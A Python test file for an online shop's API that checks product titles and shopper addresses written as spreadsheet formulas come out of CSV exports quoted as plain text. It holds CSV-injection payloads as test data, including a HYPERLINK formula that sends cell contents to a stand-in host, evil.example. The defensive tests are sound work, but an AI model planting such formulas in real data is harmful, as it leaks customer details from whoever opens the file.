"""Attacks through the data a shop takes in (issue 14): spreadsheet formulas, huge integers, broken
strings, decompression bombs, stale API keys and order numbers printed on parcels; each refused over HTTP."""

from __future__ import annotations

import csv
import io

from tests.shopping import ADDRESS

FORMULA_TITLES = ["=1+2", "@cmd", "+1+1", "-1+1", "=HYPERLINK(\"http://evil.example/\",\"查看\")", "'=already quoted"]


def _new_product(client, shop, title: str, sku: str, price: int = 1000, status: str = "active") -> dict:
    answer = client.post("/products", headers=shop["headers"], json={
        "title": title, "status": status, "variants": [{"sku": sku, "price": price, "stock": 5}],
    })
    assert answer.status_code == 201, answer.text
    return answer.json()


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def _formula_cells(rows: list[dict]) -> list[str]:
    return [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r" and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


# Spreadsheet formulas ----------------------------------------------------------------------------

def test_product_titles_that_are_formulas_export_as_text_and_import_back_unchanged(client, shop):
    for n, title in enumerate(FORMULA_TITLES):
        _new_product(client, shop, title, f"F-{n}")
    exported = client.get("/products/export", headers=shop["headers"])
    rows = _rows(exported.text)
    assert _formula_cells(rows) == []
    assert {row["title"] for row in rows} == {"'" + title for title in FORMULA_TITLES}

    answer = client.post("/products/import", content=exported.content,
                         headers=shop["headers"] | {"Content-Type": "text/csv"})
    assert answer.json() == {"created": 0, "updated": 0, "dry_run": False, "errors": []}
    listed = client.get("/products", headers=shop["headers"], params={"per_page": 50}).json()["items"]
    assert sorted(p["title"] for p in listed) == sorted(FORMULA_TITLES)
    assert client.get("/products/export", headers=shop["headers"]).content == exported.content



def test_a_shoppers_formula_address_comes_out_of_the_order_export_as_text(client, shop):
    slug = shop["shop"]["slug"]
    product = _new_product(client, shop, "龙井", "LJ-1")
    hyperlink = '=HYPERLINK("http://evil.example/?d="&F2&G2,"查看物流")'
    for name, line1 in (("=1+2", "@SUM(1)"), ("-2+3", hyperlink)):
        cart = client.post(f"/store/{slug}/carts").json()["cart_token"]
        client.post(f"/store/{slug}/carts/{cart}/items", json={"variant_id": product["variants"][0]["id"], "qty": 1})
        placed = client.post(f"/store/{slug}/checkout", json={
            "cart_token": cart, "email": "buyer@example.com", "address": {**ADDRESS, "name": name, "line1": line1},
        })
        assert placed.status_code == 201, placed.text
    exported = client.get("/orders/export", headers=shop["headers"])
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = _rows(exported.text)
    assert _formula_cells(rows) == []
    assert sorted(row["recipient"] for row in rows) == ["'-2+3", "'=1+2"]
    assert sorted(row["address"] for row in rows) == ["'" + hyperlink, "'@SUM(1)"]
